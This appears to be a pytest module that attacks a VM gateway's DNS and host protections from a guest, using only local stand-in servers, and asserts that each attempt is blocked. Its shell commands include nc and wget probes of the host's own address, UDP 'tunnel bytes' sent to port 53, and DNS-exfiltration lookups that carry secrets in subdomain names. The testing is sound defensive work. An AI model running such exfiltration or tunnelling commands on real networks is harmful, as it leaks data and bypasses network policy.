"""Real-guest attacks on the gateway's DNS and host protection (issue 13, holes 2-4).

One VM for the file. Every server is the test's own: a stub upstream resolver on loopback that
records every question, a TCP service and a UDP "resolver" on the host's own non-loopback
address (the host's end of a veth pair the test makes, so every machine has one), and a UDP
"other resolver" on loopback named to the guest by a static host. Nothing leaves the machine:
the far addresses the guest tries are the host's own or stand-ins.
"""
from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from ipaddress import IPv4Address

import dns.message
import dns.rcode
import pytest

import engine
from engine.netstack import host_addresses
from tests.remote_host import HOST_SIDE_IP, remote_host
from tests.netstack.guest_net import NetVm, running_net_vm, serve_stub_resolver

pytestmark = pytest.mark.guest

OTHER_DNS_NAME = "other-dns.test"   # static host -> a loopback UDP listener on port 53
OTHER_DNS_STAND_IN = "198.18.0.1"   # how the guest sees hosts[0]
OTHER_DNS_ADDR = "127.0.0.77"


@dataclass
class Peers:
    host_ip: str
    tcp_port: int = 0
    upstream_port: int = 0
    questions: list[str] = field(default_factory=list)     # every name the stub upstream was asked
    tcp_accepted: list[object] = field(default_factory=list)
    udp_seen: list[bytes] = field(default_factory=list)    # datagrams at "other resolvers"
    socks: list[socket.socket] = field(default_factory=list)


def _daemon(target: object) -> None:
    threading.Thread(target=target, daemon=True).start()  # type: ignore[arg-type]


def _serve_accepts(server: socket.socket, seen: list[object]) -> None:
    while True:
        try:
            conn, addr = server.accept()
        except OSError:
            return
        seen.append(addr)
        conn.close()


def _serve_datagrams(sock: socket.socket, seen: list[bytes]) -> None:
    while True:
        try:
            data, _ = sock.recvfrom(4096)
        except OSError:
            return
        seen.append(data)


@pytest.fixture(scope="module")
def peers() -> Iterator[Peers]:
    # A host address every machine has once the test makes it: the host's end of a veth pair
    # (tests/remote_host.py), a real interface address like eth0's, outside every private range.
    with remote_host():
        yield from _peers(HOST_SIDE_IP)


def _peers(host_ip: str) -> Iterator[Peers]:
    watcher = host_addresses.acquire()
    try:  # the gateway must see it as the host's, as it sees eth0's
        assert IPv4Address(host_ip) in {n.network_address for n in watcher.networks()}, watcher.networks()
    finally:
        watcher.release()
    found = Peers(host_ip)
    upstream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    upstream.bind(("127.0.0.1", 0))
    found.upstream_port = upstream.getsockname()[1]
    service = socket.create_server((found.host_ip, 0))
    found.tcp_port = service.getsockname()[1]
    resolvers = []
    for addr in (OTHER_DNS_ADDR, found.host_ip):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((addr, 53))
        resolvers.append(sock)
    found.socks = [upstream, service, *resolvers]
    # Every name resolves (a public-looking TEST-NET-3 address), hostsvc.test to the host itself.
    serve_stub_resolver(upstream, lambda name: found.host_ip if name == "hostsvc.test" else "203.0.113.7",
                        found.questions)
    _daemon(lambda: _serve_accepts(service, found.tcp_accepted))
    for sock in resolvers:
        _daemon(lambda sock=sock: _serve_datagrams(sock, found.udp_seen))  # type: ignore[misc]
    yield found
    for sock in found.socks:
        sock.close()


@pytest.fixture(scope="module")
async def guest(boot: engine.LinuxDirectBoot, peers: Peers) -> AsyncIterator[NetVm]:
    net = (engine.NetworkMode.user_nat().host(OTHER_DNS_NAME, OTHER_DNS_ADDR)
           .dns_upstream(f"127.0.0.1:{peers.upstream_port}").policy(engine.NetworkPolicy.allow_all()).build())
    async with running_net_vm(engine.vm(boot).memory_mb(192).network(net)) as running:
        yield running


async def sh(vm: NetVm, command: str, timeout: float = 60) -> engine.CommandResult:
    return await vm.sh(command, timeout)


async def test_the_hosts_own_address_is_refused_by_address_and_by_name(guest: NetVm, peers: Peers) -> None:
    guest.vm.set_policy(engine.NetworkPolicy.allow_all())
    guest.events.clear()
    by_ip = await sh(guest, f"timeout 10 nc {peers.host_ip} {peers.tcp_port} </dev/null; "
                            f"timeout 10 wget -qO- http://{peers.host_ip}:{peers.tcp_port}/")
    assert by_ip.exit_code != 0, by_ip.output
    lookup = await sh(guest, "nslookup hostsvc.test 2>&1")
    assert peers.host_ip not in lookup.output.split("hostsvc.test", 1)[-1], lookup.output
    by_name = await sh(guest, f"timeout 10 wget -qO- http://hostsvc.test:{peers.tcp_port}/")
    assert by_name.exit_code != 0
    assert "hostsvc.test" in peers.questions                  # it was asked upstream, the answer withheld
    await asyncio.sleep(0.5)
    assert peers.tcp_accepted == [], "the guest reached a service on the host's own address"
    assert any(e.action == "deny" and e.protocol == "tcp" and e.dst == peers.host_ip for e in guest.events)
    assert any(e.action == "deny" and e.protocol == "dns" and "withheld" in e.detail for e in guest.events)


@pytest.mark.parametrize("policy", [engine.NetworkPolicy.deny_all().allow_dns().allow_https(),
                                    engine.NetworkPolicy.allow_all()], ids=["allow_dns", "allow_all"])
async def test_port_53_elsewhere_is_answered_by_our_resolver_never_relayed(
        guest: NetVm, peers: Peers, policy: engine.NetworkPolicy) -> None:
    guest.vm.set_policy(policy)
    peers.udp_seen.clear()
    asked = len(peers.questions)
    for server in (OTHER_DNS_STAND_IN, peers.host_ip):
        result = await sh(guest, f"nslookup www.ok.test {server} 2>&1")
        assert "203.0.113.7" in result.output, result.output     # our resolver's answer
    assert peers.questions[asked:].count("www.ok.test") >= 1
    raw = await sh(guest, f"printf 'tunnel bytes' | timeout 5 nc -u -w 2 {OTHER_DNS_STAND_IN} 53; "
                          f"printf 'tunnel bytes' | timeout 5 nc -u -w 2 {peers.host_ip} 53; true")
    assert raw.exit_code == 0
    await asyncio.sleep(0.5)
    assert peers.udp_seen == [], "a datagram to port 53 reached a host socket"


async def test_exfiltration_names_never_reach_upstream(guest: NetVm, peers: Peers) -> None:
    guest.vm.set_policy(engine.NetworkPolicy.deny_all().allow_dns().allow_domain("ok.test"))
    guest.events.clear()
    udp = await sh(guest, "nslookup secret123.exfil.test 2>&1")
    assert "NXDOMAIN" in udp.output or "can't find" in udp.output, udp.output
    wire = dns.message.make_query("secret456.exfil.test", "A", id=777).to_wire()
    octal = "".join(f"\\{byte:03o}" for byte in len(wire).to_bytes(2, "big") + wire)
    tcp = await sh(guest, f"printf '{octal}' | timeout 10 nc 10.0.2.3 53 | od -An -v -tx1")
    answer = bytes.fromhex("".join(tcp.output.split()))
    assert len(answer) > 2 and dns.message.from_wire(answer[2:]).rcode() == dns.rcode.NXDOMAIN, tcp.output
    assert not [q for q in peers.questions if "exfil" in q], peers.questions
    denied = {e.domain for e in guest.events if e.protocol == "dns" and e.action == "deny"}
    assert {"secret123.exfil.test", "secret456.exfil.test"} <= denied, guest.events
    ok = await sh(guest, "nslookup ok.test 2>&1")
    assert "203.0.113.7" in ok.output, ok.output                 # the allowed name still resolves
